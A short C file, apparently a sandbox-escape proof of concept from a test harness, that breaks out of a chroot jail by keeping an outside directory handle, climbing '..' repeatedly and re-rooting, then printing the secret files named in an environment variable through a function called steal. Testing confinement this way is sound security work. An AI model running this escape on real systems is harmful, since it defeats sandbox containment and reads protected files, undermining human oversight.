// The old way out: a root below the working directory makes `..` lead upwards for ever.
#include "proof.h"

static void steal(const char *secret) {
    char path[4096];
    snprintf(path, sizeof path, ".%s", secret);
    print_file(path);
}

int main(void) {
    bounded();
    mkdir("deep", 0700);
    int here = open(".", O_RDONLY);
    if (chroot("deep")) return 0;
    fchdir(here);
    for (int up = 0; up < 64; up++) chdir("..");
    if (chroot(".")) return 0;
    each_path("SECRETS", steal);
    return 0;
}
